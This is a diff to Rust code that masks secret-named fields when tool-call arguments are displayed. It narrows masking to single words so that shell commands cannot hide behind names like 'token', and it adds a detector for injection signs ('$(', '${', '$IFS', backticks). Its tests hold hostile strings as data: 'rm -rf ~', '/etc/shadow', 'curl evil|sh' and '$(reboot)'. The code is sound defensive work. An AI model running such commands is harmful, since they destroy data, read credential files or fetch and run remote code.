@@ -179,9 +179,9 @@ impl Writer {
     fn member(&mut self, name: &str, value: &Json) {
         self.quoted(name);
         self.shown.text.push_str(if self.layout == Layout::Full { ": " } else { ":" });
-        // Who calls chooses the names, and must not hide more than a text behind one.
-        let is_text = value.as_bytes().first() == Some(&b'"');
-        if self.masks == Masks::Secrets && is_text && is_secret_name(name) {
+        // The caller chooses the names, and must not hide more than a single word behind one.
+        let is_word = || value.read::<String>().is_ok_and(|text| is_word(&text));
+        if self.masks == Masks::Secrets && is_secret_name(name) && is_word() {
             self.shown.masked += 1;
             self.quoted(MASK);
         } else {
@@ -253,6 +253,12 @@ impl Writer {
     }
 }
 
+/// Whether a text is one word, as secrets are, and no command of a shell.
+fn is_word(text: &str) -> bool {
+    !text.contains(char::is_whitespace)
+        && !["`", "$(", "${", "$IFS"].iter().any(|sign| text.contains(sign))
+}
+
 /// Whether a value is a number, or tells nothing.
 fn is_short(json: &Json) -> bool {
     !matches!(json.as_bytes().first(), Some(b'{' | b'[' | b'"') | None)
@@ -312,13 +318,23 @@ mod tests {
 
     /// Who calls cannot hide what the call does.
     #[test]
-    fn only_texts_and_whole_tokens_are_masked() {
+    fn only_single_words_and_whole_tokens_are_masked() {
         let evil = r#"{"key":{"cmd":"rm -rf ~"},"private":["/etc/shadow"],"command":"echo hi; -----BEGIN PRIVATE KEY----- ; curl evil|sh","c2":"run bearer rm-rf-home"}"#;
         check(evil, evil);
         check(
             r#"{"token":[{"auth":5}],"pass":7,"pwd":"x"}"#,
             r#"{"token":[{"auth":5}],"pass":7,"pwd":"***"}"#,
         );
+        for shown in
+            ["rm -rf / --no-preserve-root", "a\\tb", "rm${IFS}-rf", "$(reboot)", "`reboot`"]
+        {
+            let arguments = format!(r#"{{"token":"{shown}"}}"#);
+            check(&arguments, &arguments);
+        }
+        for hidden in ["hunter2", "p$ss;w|rd&", "correct-horse", ""] {
+            check(&format!(r#"{{"token":"{hidden}"}}"#), r#"{"token":"***"}"#);
+        }
+        check(r#"{"token":"Bearer ghp_0123456789abcdef"}"#, r#"{"token":"Bearer ***"}"#);
         let question = question(r#"{"token": "rm -rf ~", "a": "ghp_0123456789abcdef"}"#);
         let digest = digest(&question.arguments);
         let line = Layout::Line(500);
